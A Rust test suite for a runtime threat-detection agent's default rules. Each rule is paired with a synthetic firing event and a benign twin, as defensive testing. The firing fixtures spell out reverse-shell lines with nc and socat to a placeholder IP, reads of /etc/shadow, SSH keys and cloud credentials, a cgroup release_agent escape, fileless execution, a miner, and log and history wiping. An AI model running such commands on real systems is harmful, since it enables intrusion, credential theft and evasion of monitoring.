//! The default rules against events made to fire each of them, and a benign
//! counterpart of each that must not.
//!
//! Every fixture is an [`Event`] as the agent would emit it, and is checked
//! against the published JSON schema, so that a rule is only ever tested
//! against data the agent can actually produce.

use std::{borrow::Cow, collections::BTreeSet, sync::Arc};

use crate::{
    events::event::{
        Ancestor, ArgValue, CapSets, ContainerInfo, Endpoint, Event, EventKind, FdInfo, PathArg,
        Process, Socket, Syscall, WallTime,
    },
    rules::{
        MatchMode, RuleSet, Selection,
        diag::Severity,
        ruleset::{DEFAULT_RULES, DEFAULT_RULES_NAME},
    },
};

const CONTAINER_ID: &str = "4f1c2b9e8d7a6c5b4a39281706f5e4d3c2b1a09f8e7d6c5b4a3928170615e4d3";
const POD_UID: &str = "9a3e51c2-7b4d-4e8f-a1c6-2d0b9e7f5a31";

fn defaults() -> RuleSet {
    let files = [(Arc::from(DEFAULT_RULES_NAME), Arc::from(DEFAULT_RULES))];
    RuleSet::from_texts(&files, &Selection::default(), MatchMode::All)
        .unwrap_or_else(|e| panic!("the default rules compile: {e}"))
}

/// An event under construction: a process in a container of a pod, run by
/// user `app` (1000) from a shell, unless changed.
#[derive(Clone, Debug)]
struct Fixture(Event);

impl Fixture {
    fn base(kind: EventKind, comm: &str, args: &[&str]) -> Self {
        let exe = match args.first() {
            Some(first) if first.starts_with('/') => (*first).to_owned(),
            _ => format!("/usr/bin/{comm}"),
        };
        Self(Event {
            cpu: Some(1),
            process: Some(Arc::new(Process {
                pid: 7456,
                tid: 7456,
                ns_pid: 12,
                ppid: 7448,
                uid: 1000,
                gid: 1000,
                euid: 1000,
                egid: 1000,
                user_name: Some("app".into()),
                group_name: Some("app".into()),
                cgroup_id: 8812,
                start_ns: 1_071_000_000_000,
                comm: comm.into(),
                exe: Some(exe.into()),
                args: Some(args.iter().map(|a| (*a).to_owned()).collect()),
                argc: Some(u32::try_from(args.len()).expect("few args")),
                cwd: Some("/srv".into()),
                ancestors: vec![Ancestor::new(7448, "bash", "/bin/bash", &["/bin/bash"])].into(),
                ..Process::default()
            })),
            container: Some(Arc::new(ContainerInfo {
                kind: "container".into(),
                id: Some(CONTAINER_ID.into()),
                runtime: Some("containerd".into()),
                pod_uid: Some(POD_UID.into()),
                qos: Some("besteffort".into()),
                cgroup_driver: Some("systemd".into()),
                monitor: false,
            })),
            ..Event::new(
                kind,
                WallTime::parse("2026-11-26T05:31:22.386923609Z").expect("a time"),
                1_071_213_930_349,
                "worker-1".into(),
            )
        })
    }

    /// `args[0]` executed; its command name is the last part of it.
    fn exec(args: &[&str]) -> Self {
        let first = args.first().copied().unwrap_or("true");
        let comm: String = first
            .rsplit('/')
            .next()
            .unwrap_or(first)
            .chars()
            .take(15)
            .collect();
        let mut f = Self::base(EventKind::ProcessExec, &comm, args);
        f.process().filename = Some(first.to_owned());
        f.process().cap_effective = Some(0);
        f
    }

    /// Syscall `name` returning `ret`, made by `comm`.
    fn syscall(name: &'static str, ret: i64, comm: &str) -> Self {
        let spec = crate::bpf::syscalls::by_name(name).expect("a reported syscall");
        let mut f = Self::base(EventKind::Syscall, comm, &[&format!("/usr/bin/{comm}")]);
        // Only exec events carry the arguments and the working directory.
        let p = f.process();
        p.args = None;
        p.argc = None;
        p.cwd = None;
        f.0.syscall = Some(Arc::new(Syscall {
            name: Cow::Borrowed(name),
            nr: spec.nr,
            sensor: Cow::Borrowed(spec.sensor.name()),
            ret,
            ..Syscall::default()
        }));
        f
    }

    /// `openat(AT_FDCWD, path, flags)` returning descriptor 3 (or `ret`).
    fn open(path: &str, flags: u64, comm: &str) -> Self {
        Self::syscall("openat", 3, comm)
            .arg("dirfd", ArgValue::Signed(-100))
            .path("pathname", path)
            .arg("flags", ArgValue::Unsigned(flags))
            .arg("mode", ArgValue::Unsigned(0o644))
            .fd_file("ret", 3, path)
    }

    fn process(&mut self) -> &mut Process {
        self.0
            .process
            .as_mut()
            .map(Arc::make_mut)
            .expect("a process")
    }

    fn sys(&mut self) -> &mut Syscall {
        Arc::make_mut(self.0.syscall.as_mut().expect("a syscall"))
    }

    fn arg(mut self, name: &'static str, value: ArgValue) -> Self {
        self.sys().args.insert(Cow::Borrowed(name), value);
        self
    }

    fn text(self, name: &'static str, value: &str) -> Self {
        self.arg(name, ArgValue::Text(value.into()))
    }

    fn path(mut self, arg: &'static str, path: &str) -> Self {
        self.sys()
            .paths
            .push(PathArg::new(Cow::Borrowed(arg), path.into(), path.into()));
        self
    }

    fn fd_file(mut self, arg: &'static str, fd: i64, path: &str) -> Self {
        self.sys().fds.push(FdInfo {
            arg: Cow::Borrowed(arg),
            fd,
            kind: "file".into(),
            path: Some(path.into()),
            socket: None,
        });
        self
    }

    fn fd_socket(mut self, arg: &'static str, fd: i64, socket: Socket) -> Self {
        self.sys().fds.push(FdInfo {
            arg: Cow::Borrowed(arg),
            fd,
            kind: "socket".into(),
            path: None,
            socket: Some(Box::new(socket)),
        });
        self
    }

    fn ret(mut self, ret: i64) -> Self {
        self.sys().ret = ret;
        self
    }

    fn host(mut self) -> Self {
        self.0.container = Some(Arc::new(ContainerInfo {
            kind: "host".into(),
            ..ContainerInfo::default()
        }));
        self
    }

    fn user(mut self, uid: u32, name: &str) -> Self {
        let p = self.process();
        (p.uid, p.euid, p.gid, p.egid) = (uid, uid, uid, uid);
        p.user_name = Some(name.into());
        p.group_name = Some(name.into());
        self
    }

    fn login(mut self, uid: u32, name: &str) -> Self {
        let p = self.process();
        p.login_uid = Some(uid);
        p.login_name = Some(name.into());
        self
    }

    fn parent(mut self, comm: &str, args: &[&str]) -> Self {
        let exe = args.first().copied().unwrap_or("/usr/bin/true");
        self.process().ancestors = vec![
            Ancestor::new(7448, comm, exe, args),
            Ancestor::new(
                7400,
                "containerd-shim",
                "/usr/bin/containerd-shim-runc-v2",
                &[],
            ),
        ]
        .into();
        self
    }

    fn tty(mut self, tty: u32) -> Self {
        self.process().tty = tty;
        self
    }

    fn with(mut self, change: impl FnOnce(&mut Event)) -> Self {
        change(&mut self.0);
        self
    }
}

fn tcp(local: (&str, u16), remote: (&str, u16), state: &str) -> Socket {
    Socket {
        family: if local.0.contains(':') {
            "inet6"
        } else {
            "inet"
        }
        .into(),
        kind: "stream".into(),
        protocol: "tcp".into(),
        state: Some(state.to_owned().into()),
        local: Some(Endpoint {
            address: local.0.into(),
            port: local.1,
        }),
        remote: Some(Endpoint {
            address: remote.0.into(),
            port: remote.1,
        }),
    }
}

const O_RDONLY: u64 = 0;
const O_WRONLY_CREAT_TRUNC: u64 = 0o1 | 0o100 | 0o1000;
const O_WRONLY_APPEND: u64 = 0o1 | 0o2000;
const O_CLOEXEC: u64 = 0o2000000;
const O_DIRECTORY: u64 = 0o200000;

fn dup2(oldfd: i64, newfd: i64, socket: Socket, comm: &str) -> Fixture {
    Fixture::syscall("dup2", newfd, comm)
        .fd_socket("oldfd", oldfd, socket.clone())
        .arg("newfd", ArgValue::int(newfd))
        .fd_socket("ret", newfd, socket)
}

fn setuid(uid: u64, comm: &str) -> Fixture {
    Fixture::syscall("setuid", 0, comm).arg("uid", ArgValue::Unsigned(uid))
}

fn capset(permitted: u64, comm: &str) -> Fixture {
    Fixture::syscall("capset", 0, comm)
        .arg("hdrp", ArgValue::Unsigned(0x7ffd_1000))
        .with(|e| {
            if let Some(s) = e.syscall.as_mut().map(Arc::make_mut) {
                s.capabilities = Some(Box::new(CapSets {
                    effective: permitted,
                    permitted,
                    inheritable: 0,
                }));
            }
        })
}

fn ptrace(request: u64, comm: &str) -> Fixture {
    Fixture::syscall("ptrace", 0, comm)
        .arg("request", ArgValue::Unsigned(request))
        .arg("pid", ArgValue::Unsigned(5120))
        .arg("addr", ArgValue::Unsigned(0))
        .arg("data", ArgValue::Unsigned(0))
}

fn finit_module(comm: &str) -> Fixture {
    Fixture::syscall("finit_module", 0, comm)
        .fd_file("fd", 3, "/tmp/rk.ko")
        .text("param_values", "")
        .arg("flags", ArgValue::Unsigned(0))
}

fn mount(source: &str, target: &str, fstype: &str, comm: &str) -> Fixture {
    Fixture::syscall("mount", 0, comm)
        .text("source", source)
        .path("target", target)
        .text("filesystemtype", fstype)
        .arg("mountflags", ArgValue::Unsigned(0))
        .arg("data", ArgValue::Unsigned(0))
}

fn setns(comm: &str) -> Fixture {
    Fixture::syscall("setns", 0, comm)
        .fd_file("fd", 3, "/proc/1/ns/mnt")
        .arg("nstype", ArgValue::Unsigned(0))
}

fn unlinkat(path: &str, comm: &str) -> Fixture {
    Fixture::syscall("unlinkat", 0, comm)
        .arg("dirfd", ArgValue::Signed(-100))
        .path("pathname", path)
        .arg("flags", ArgValue::Unsigned(0))
}

fn renameat2(old: &str, new: &str, comm: &str) -> Fixture {
    Fixture::syscall("renameat2", 0, comm)
        .arg("olddirfd", ArgValue::Signed(-100))
        .path("oldpath", old)
        .arg("newdirfd", ArgValue::Signed(-100))
        .path("newpath", new)
        .arg("flags", ArgValue::Unsigned(0))
}

fn symlinkat(target: &str, linkpath: &str, comm: &str) -> Fixture {
    Fixture::syscall("symlinkat", 0, comm)
        .text("target", target)
        .arg("newdirfd", ArgValue::Signed(-100))
        .path("linkpath", linkpath)
}

fn linkat(old: &str, new: &str, comm: &str) -> Fixture {
    Fixture::syscall("linkat", 0, comm)
        .arg("olddirfd", ArgValue::Signed(-100))
        .path("oldpath", old)
        .arg("newdirfd", ArgValue::Signed(-100))
        .path("newpath", new)
        .arg("flags", ArgValue::Unsigned(0))
}

fn socket(domain: u64, kind: u64, protocol: u64, comm: &str) -> Fixture {
    let family = match domain {
        17 => "packet",
        10 => "inet6",
        _ => "inet",
    };
    Fixture::syscall("socket", 4, comm)
        .arg("domain", ArgValue::Unsigned(domain))
        .arg("type", ArgValue::Unsigned(kind))
        .arg("protocol", ArgValue::Unsigned(protocol))
        .fd_socket(
            "ret",
            4,
            Socket {
                family: family.into(),
                kind: if kind & 0xf == 3 { "raw" } else { "dgram" }.into(),
                protocol: if kind & 0xf == 3 { "raw" } else { "udp" }.into(),
                ..Socket::default()
            },
        )
}

fn connect(remote: (&str, u16), comm: &str) -> Fixture {
    Fixture::syscall("connect", -115, comm).fd_socket(
        "sockfd",
        5,
        tcp(("10.244.1.7", 43122), remote, "syn_sent"),
    )
}

fn bpf(cmd: u64, comm: &str) -> Fixture {
    Fixture::syscall("bpf", 7, comm)
        .arg("cmd", ArgValue::Unsigned(cmd))
        .arg("attr", ArgValue::Unsigned(0x7ffc_2000))
        .arg("size", ArgValue::Unsigned(144))
}

fn userfaultfd(comm: &str) -> Fixture {
    Fixture::syscall("userfaultfd", 5, comm)
        .arg("flags", ArgValue::Unsigned(0o2000000))
        .with(|e| {
            if let Some(s) = e.syscall.as_mut().map(Arc::make_mut) {
                s.fds.push(FdInfo {
                    arg: Cow::Borrowed("ret"),
                    fd: 5,
                    kind: "anon".into(),
                    path: None,
                    socket: None,
                });
            }
        })
}

/// One rule, an event that fires it (with the other rules it also fires),
/// and a benign event that fires no rule at all.
struct Case {
    rule: &'static str,
    fires: Fixture,
    also: &'static [&'static str],
    benign: Fixture,
}

fn case(rule: &'static str, fires: Fixture, benign: Fixture) -> Case {
    Case {
        rule,
        fires,
        also: &[],
        benign,
    }
}

fn cases() -> Vec<Case> {
    let app_server = |f: Fixture| f.parent("node", &["/usr/local/bin/node", "server.js"]);
    vec![
        case(
            "Interactive shell in container",
            Fixture::exec(&["/bin/bash"])
                .tty(34816)
                .parent("runc", &["runc", "exec"]),
            // A shell without a terminal (an entrypoint script).
            Fixture::exec(&["/bin/sh", "/docker-entrypoint.sh"]).parent("tini", &["/tini"]),
        ),
        case(
            "Shell spawned by a server process",
            app_server(Fixture::exec(&["/bin/sh", "-c", "id; uname -a"])),
            // The same server starting a helper program, not a shell.
            app_server(Fixture::exec(&["/usr/bin/convert", "in.png", "out.jpg"])),
        ),
        case(
            "Sensitive system file read by unexpected program",
            Fixture::open("/etc/shadow", O_RDONLY | O_CLOEXEC, "cat").user(0, "root"),
            // sudo reads its own policy.
            Fixture::open("/etc/sudoers", O_RDONLY | O_CLOEXEC, "sudo").user(0, "root"),
        ),
        case(
            "SSH private key read by non-SSH program",
            Fixture::open("/home/dev/.ssh/id_ed25519", O_RDONLY, "python3").host(),
            // The ssh client reading its key, on the host.
            Fixture::open("/home/dev/.ssh/id_ed25519", O_RDONLY, "ssh").host(),
        ),
        case(
            "Service account token read by a shell tool",
            Fixture::open(
                "/var/run/secrets/kubernetes.io/serviceaccount/token",
                O_RDONLY,
                "cat",
            ),
            // The application's Kubernetes client reading it.
            Fixture::open(
                "/var/run/secrets/kubernetes.io/serviceaccount/token",
                O_RDONLY | O_CLOEXEC,
                "controller",
            ),
        ),
        case(
            "Cloud credentials read in container",
            Fixture::open("/root/.aws/credentials", O_RDONLY, "python3").user(0, "root"),
            // The same on a developer's host.
            Fixture::open("/home/dev/.aws/credentials", O_RDONLY, "python3").host(),
        ),
        case(
            "Write below binary directory",
            Fixture::open("/usr/bin/ls", O_WRONLY_CREAT_TRUNC, "curl").user(0, "root"),
            // dpkg unpacking a package.
            Fixture::open("/usr/bin/ls.dpkg-new", O_WRONLY_CREAT_TRUNC, "dpkg").user(0, "root"),
        ),
        case(
            "Write below etc",
            Fixture::open("/etc/ld.so.preload", O_WRONLY_CREAT_TRUNC, "python3")
                .user(0, "root")
                .host(),
            // Reading /etc is what every program does.
            Fixture::open("/etc/ld.so.cache", O_RDONLY | O_CLOEXEC, "python3").host(),
        ),
        case(
            "Package manager in container",
            Fixture::exec(&["/usr/bin/apt-get", "install", "-y", "nmap"]).user(0, "root"),
            // npm running the application's start script.
            Fixture::exec(&["npm", "start"]).with(|e| {
                if let Some(p) = e.process.as_mut().map(Arc::make_mut) {
                    p.exe = Some("/usr/local/bin/npm".into());
                }
            }),
        ),
        case(
            "Package manager in container",
            Fixture::exec(&["python3", "-m", "pip", "install", "requests"]),
            // pip asked what is installed.
            Fixture::exec(&["pip", "list"]),
        ),
        case(
            "Standard stream redirected to a network socket",
            dup2(
                3,
                0,
                tcp(("10.244.1.7", 43122), ("203.0.113.9", 9001), "established"),
                "bash",
            ),
            // A file duplicated onto standard output.
            Fixture::syscall("dup2", 1, "bash")
                .fd_file("oldfd", 3, "/srv/out.log")
                .arg("newfd", ArgValue::Unsigned(1))
                .fd_file("ret", 1, "/srv/out.log"),
        ),
        case(
            "Netcat or socat runs a program",
            Fixture::exec(&["nc", "-e", "/bin/sh", "203.0.113.9", "9001"]),
            // netcat checking that a port is open.
            Fixture::exec(&["nc", "-z", "-v", "db", "5432"]),
        ),
        case(
            "Netcat or socat runs a program",
            Fixture::exec(&["socat", "TCP:203.0.113.9:9001", "EXEC:/bin/bash,pty,stderr"]),
            // socat forwarding a port.
            Fixture::exec(&["socat", "TCP-LISTEN:8080,fork", "TCP:backend:80"]),
        ),
        case(
            "Login user became root without a privilege tool",
            setuid(0, "exploit")
                .user(0, "root")
                .login(1000, "dev")
                .host(),
            // sudo doing its job for the same login.
            setuid(0, "sudo").user(0, "root").login(1000, "dev").host(),
        ),
        case(
            "Sudo or su in container",
            Fixture::exec(&["/usr/bin/sudo", "-i"]),
            // sudo on the host.
            Fixture::exec(&["/usr/bin/sudo", "-i"]).host(),
        ),
        case(
            "Powerful capabilities kept in container",
            capset(1 << 21 | 1 << 0, "app").user(0, "root"),
            // Dropping to CAP_NET_BIND_SERVICE only.
            capset(1 << 10, "nginx").user(0, "root"),
        ),
        case(
            "Process attached to another with ptrace",
            ptrace(16, "app"),
            // A debugger on the host.
            ptrace(16, "gdb").host(),
        ),
        case(
            "Kernel module loaded from container",
            finit_module("insmod").user(0, "root"),
            // A failed attempt loads nothing.
            finit_module("insmod").user(0, "root").ret(-1),
        ),
        case(
            "Kernel module loaded by unexpected program",
            finit_module("insmod").user(0, "root").host(),
            // modprobe on the host.
            finit_module("modprobe").user(0, "root").host(),
        ),
        case(
            "Mount in container",
            mount("/dev/sda1", "/mnt", "ext4", "mount").user(0, "root"),
            // runc's init setting up the container's root.
            mount("proc", "/proc", "proc", "runc:[2:INIT]").user(0, "root"),
        ),
        case(
            "Namespace change in container",
            setns("app").user(0, "root"),
            // The same on the host (container tooling does this).
            setns("containerd").user(0, "root").host(),
        ),
        case(
            "Write to release_agent or core_pattern",
            Fixture::open(
                "/sys/fs/cgroup/rdma/release_agent",
                O_WRONLY_CREAT_TRUNC,
                "sh",
            )
            .user(0, "root"),
            // systemd-sysctl setting core_pattern on the host at boot.
            Fixture::open(
                "/proc/sys/kernel/core_pattern",
                O_WRONLY_CREAT_TRUNC,
                "systemd-sysctl",
            )
            .user(0, "root")
            .host(),
        ),
        case(
            "Namespace tool in container",
            Fixture::exec(&["/usr/bin/nsenter", "-t", "1", "-m", "-u", "-n", "-i", "sh"])
                .user(0, "root"),
            // nsenter on the host, by an administrator.
            Fixture::exec(&["/usr/bin/nsenter", "-t", "1", "-n", "ip", "a"])
                .user(0, "root")
                .host(),
        ),
        case(
            "Container runtime used from container",
            Fixture::exec(&[
                "curl",
                "--unix-socket",
                "/var/run/docker.sock",
                "http://localhost/containers/json",
            ]),
            // curl to an ordinary web service.
            Fixture::exec(&["curl", "-fsS", "http://api:8080/healthz"]),
        ),
        case(
            "Link to sensitive file",
            symlinkat("/etc/shadow", "/tmp/s", "ln"),
            // A link to an ordinary file.
            symlinkat("/srv/app/current", "/srv/app/live", "ln"),
        ),
        case(
            "Link to sensitive file",
            linkat("/etc/shadow", "/tmp/s", "ln").user(0, "root").host(),
            // A hard link between ordinary files.
            linkat("/srv/a", "/srv/b", "ln").host(),
        ),
        case(
            "Userfaultfd in container",
            userfaultfd("exploit"),
            // The same call on the host.
            userfaultfd("qemu-system-x86").host(),
        ),
        case(
            "Crypto miner started",
            Fixture::exec(&[
                "/opt/kworkerds",
                "-o",
                "stratum+tcp://pool.example:3333",
                "-u",
                "wallet",
            ]),
            // A program whose arguments say nothing of pools.
            Fixture::exec(&["/opt/worker", "--queue", "jobs"]),
        ),
        case(
            "Connection to mining pool port",
            connect(("198.51.100.20", 14444), "kworkerds"),
            // A connection to a web service.
            connect(("198.51.100.20", 443), "kworkerds"),
        ),
        case(
            "Fileless program execution",
            Fixture::exec(&["/proc/self/fd/3"]).with(|e| {
                if let Some(p) = e.process.as_mut().map(Arc::make_mut) {
                    p.comm = "3".into();
                    p.exe = Some("/memfd:payload (deleted)".into());
                    p.exe_memfd = true;
                }
            }),
            // The same program from a file.
            Fixture::exec(&["/usr/local/bin/payload"]),
        ),
        case(
            "Program written in container executed",
            Fixture::exec(&["/usr/local/bin/tool"]).with(|e| {
                if let Some(p) = e.process.as_mut().map(Arc::make_mut) {
                    p.exe_upper_layer = true;
                }
            }),
            // A program from the image.
            Fixture::exec(&["/usr/local/bin/tool"]),
        ),
        Case {
            rule: "Program executed from temporary directory",
            fires: Fixture::exec(&["/tmp/.x/agent"]).with(|e| {
                if let Some(p) = e.process.as_mut().map(Arc::make_mut) {
                    p.exe_upper_layer = true;
                }
            }),
            also: &["Program written in container executed"],
            // A build's test program in /tmp on a host.
            benign: Fixture::exec(&["/tmp/build/target/debug/hello"]).host(),
        },
        case(
            "Network tool in container",
            Fixture::exec(&["/usr/bin/nmap", "-sS", "10.96.0.0/12"]),
            // nmap on the host.
            Fixture::exec(&["/usr/bin/nmap", "-sS", "10.96.0.0/12"]).host(),
        ),
        case(
            "Raw or packet socket in container",
            socket(17, 3 | O_CLOEXEC, 0x0300, "python3").user(0, "root"),
            // ping's ICMP socket.
            socket(2, 3, 1, "ping").user(0, "root"),
        ),
        case(
            "Log file truncated",
            Fixture::open("/var/log/auth.log", O_WRONLY_CREAT_TRUNC, "bash").user(0, "root"),
            // A program appending to its log.
            Fixture::open("/var/log/app.log", O_WRONLY_APPEND, "app"),
        ),
        case(
            "Log file deleted or renamed",
            unlinkat("/var/log/wtmp", "rm").user(0, "root").host(),
            // logrotate expiring an old log.
            unlinkat("/var/log/syslog.7.gz", "logrotate")
                .user(0, "root")
                .host(),
        ),
        case(
            "Shell history tampered with",
            symlinkat("/dev/null", "/root/.bash_history", "ln").user(0, "root"),
            // rm of an ordinary file.
            unlinkat("/root/notes.txt", "rm").user(0, "root"),
        ),
        case(
            "Shell history tampered with",
            Fixture::open("/root/.bash_history", O_WRONLY_CREAT_TRUNC, "cp").user(0, "root"),
            // The shell saving its own history as it exits.
            Fixture::open("/root/.bash_history", O_WRONLY_CREAT_TRUNC, "bash").user(0, "root"),
        ),
        case(
            "Guardrails configuration modified",
            renameat2(
                "/tmp/empty.yaml",
                "/etc/guardrails/rules.d/local.yaml",
                "mv",
            )
            .user(0, "root")
            .host(),
            // Renaming files elsewhere.
            renameat2("/tmp/a.yaml", "/tmp/b.yaml", "mv").host(),
        ),
        case(
            "Guardrails stopped by command",
            Fixture::exec(&["/usr/bin/pkill", "-9", "guardrails"])
                .user(0, "root")
                .host(),
            // pkill of something else.
            Fixture::exec(&["/usr/bin/pkill", "-HUP", "nginx"])
                .user(0, "root")
                .host(),
        ),
        case(
            "BPF link detached",
            bpf(34, "bpftool").user(0, "root").host().ret(0),
            // Listing programs is harmless.
            bpf(11, "bpftool").user(0, "root").host().ret(0),
        ),
        case(
            "BPF program loaded by unexpected process",
            bpf(5, "exploit"),
            // systemd loading its cgroup programs on the host, as root.
            bpf(5, "systemd").user(0, "root").host(),
        ),
    ]
}

/// The names of the rules `event` fires, and its violations.
fn fired(set: &RuleSet, event: &Event) -> (BTreeSet<String>, Vec<Event>) {
    let mut out = Vec::new();
    set.evaluate(event, 1, &mut out);
    let names = out
        .iter()
        .filter_map(|v| v.violation.as_ref().map(|v| v.rule.clone()))
        .collect();
    (names, out)
}

fn assert_schema_valid(event: &Event) {
    let schema: serde_json::Value =
        serde_json::from_str(include_str!("../../../schema/event.v1.schema.json"))
            .expect("the schema is JSON");
    let validator = jsonschema::validator_for(&schema).expect("the schema compiles");
    let json = serde_json::to_value(event).expect("the fixture serializes");
    let errors: Vec<String> = validator
        .iter_errors(&json)
        .map(|e| e.to_string())
        .collect();
    assert!(
        errors.is_empty(),
        "fixture does not match the event schema: {errors:?}\n{json}"
    );
}

#[test]
fn the_defaults_compile_without_warnings_and_enable_enough_rules() {
    let set = defaults();
    let warnings: Vec<String> = set
        .warnings()
        .iter()
        .filter(|d| d.severity == Severity::Warning)
        .map(ToString::to_string)
        .collect();
    assert!(warnings.is_empty(), "{warnings:#?}");
    assert!(set.enabled() >= 25, "{} rules enabled", set.enabled());
    assert_eq!(set.enabled(), set.rules().len(), "every default is on");
    for rule in set.rules() {
        assert!(
            !rule.tags.is_empty() && !rule.desc.trim().is_empty(),
            "rule {:?} has a description and tags",
            rule.name
        );
        assert!(
            rule.tags.iter().any(|t| t.starts_with("mitre_"))
                && rule.tags.iter().any(|t| t.starts_with('T')),
            "rule {:?} has a MITRE tactic and technique",
            rule.name
        );
    }
}

#[test]
fn every_default_rule_has_a_case() {
    let set = defaults();
    let tested: BTreeSet<&str> = cases().iter().map(|c| c.rule).collect();
    let rules: BTreeSet<&str> = set.rules().iter().map(|r| r.name.as_str()).collect();
    assert_eq!(
        rules, tested,
        "rules without a case, or cases without a rule"
    );
}

#[test]
fn each_default_rule_fires_on_its_event_and_not_on_its_benign_twin() {
    let set = defaults();
    for case in cases() {
        assert_schema_valid(&case.fires.0);
        assert_schema_valid(&case.benign.0);

        let (names, violations) = fired(&set, &case.fires.0);
        let mut expected: BTreeSet<String> = case.also.iter().map(|s| (*s).to_owned()).collect();
        expected.insert(case.rule.to_owned());
        assert_eq!(
            names, expected,
            "rules fired by the event for {:?}",
            case.rule
        );

        let on_host = case
            .fires
            .0
            .container
            .as_ref()
            .is_some_and(|c| c.kind == "host");
        for violation in &violations {
            let v = violation.violation.as_ref().expect("a violation section");
            // A host has no pod; everything else the output names is in the
            // fixture and must be rendered.
            // Only the fields the output shows: a condition may read fields
            // of alternatives this event did not take.
            let missing: Vec<&str> = v
                .fields
                .iter()
                .filter(|(name, value)| {
                    value.is_null()
                        && output_names(&set, &v.rule).contains(&name.to_string())
                        && !(on_host && &***name == "k8s.pod.uid")
                })
                .map(|(name, _)| &**name)
                .collect();
            assert!(
                missing.is_empty(),
                "{:?} renders <NA> for {missing:?}: {}",
                v.rule,
                v.output
            );
            assert_eq!(
                v.output.contains("<NA>"),
                on_host && v.fields.contains_key("k8s.pod.uid"),
                "{}",
                v.output
            );
        }

        let (names, _) = fired(&set, &case.benign.0);
        assert!(
            names.is_empty(),
            "the benign event for {:?} fired {names:?}",
            case.rule
        );
    }
}

#[test]
fn a_developers_day_on_a_host_fires_nothing() {
    let set = defaults();
    let dev = |f: Fixture| f.host().user(1000, "dev").login(1000, "dev").tty(34817);
    let events = [
        dev(Fixture::exec(&[
            "/home/dev/.cargo/bin/cargo",
            "build",
            "--offline",
        ])),
        dev(Fixture::exec(&[
            "/usr/bin/cc",
            "-m64",
            "/tmp/rustcXyz/symbols.o",
        ])),
        dev(Fixture::open(
            "/home/dev/hello/target/debug/hello",
            O_WRONLY_CREAT_TRUNC,
            "rustc",
        )),
        dev(Fixture::exec(&["/tmp/hello/target/debug/hello"])),
        dev(Fixture::exec(&["/usr/bin/git", "status"])),
        dev(Fixture::open(
            "/home/dev/.ssh/id_ed25519",
            O_RDONLY | O_CLOEXEC,
            "ssh",
        )),
        dev(Fixture::open(
            "/home/dev/.ssh",
            O_RDONLY | O_DIRECTORY,
            "ls",
        )),
        dev(Fixture::open("/etc/passwd", O_RDONLY | O_CLOEXEC, "ls")),
        dev(Fixture::open(
            "/home/dev/.bash_history",
            O_WRONLY_CREAT_TRUNC,
            "bash",
        )),
        dev(Fixture::open(
            "/tmp/notes.txt.swp",
            O_WRONLY_CREAT_TRUNC,
            "vim",
        )),
        dev(unlinkat("/tmp/notes.txt", "rm")),
        dev(renameat2("/home/dev/a.txt", "/home/dev/b.txt", "mv")),
        dev(connect(("93.184.215.14", 443), "curl")),
        dev(Fixture::exec(&["/usr/bin/apt", "list", "--installed"])),
        dev(Fixture::exec(&["/usr/bin/sudo", "ls", "/root"])),
        dev(setuid(0, "sudo").user(0, "root")),
    ];
    for event in &events {
        assert_schema_valid(&event.0);
        let (names, violations) = fired(&set, &event.0);
        assert!(
            names.is_empty(),
            "{names:?}: {:?}",
            violations
                .iter()
                .filter_map(|v| v.violation.as_ref().map(|v| v.output.clone()))
                .collect::<Vec<_>>()
        );
    }
}

#[test]
fn the_rules_read_the_container_and_pod_into_their_output() {
    let set = defaults();
    let event = Fixture::exec(&["/bin/bash"]).tty(34816);
    let (_, violations) = fired(&set, &event.0);
    let v = violations
        .first()
        .and_then(|v| v.violation.as_ref())
        .expect("a violation");
    assert!(
        v.output
            .contains(&format!("container={}", &CONTAINER_ID[..12])),
        "{}",
        v.output
    );
    assert!(
        v.output.contains(&format!("pod_uid={POD_UID}")),
        "{}",
        v.output
    );
}

/// The fields a rule's output template names.
fn output_names(set: &RuleSet, rule: &str) -> Vec<String> {
    set.rules()
        .iter()
        .find(|r| r.name == rule)
        .map(|r| r.output.field_names().map(str::to_owned).collect())
        .unwrap_or_default()
}
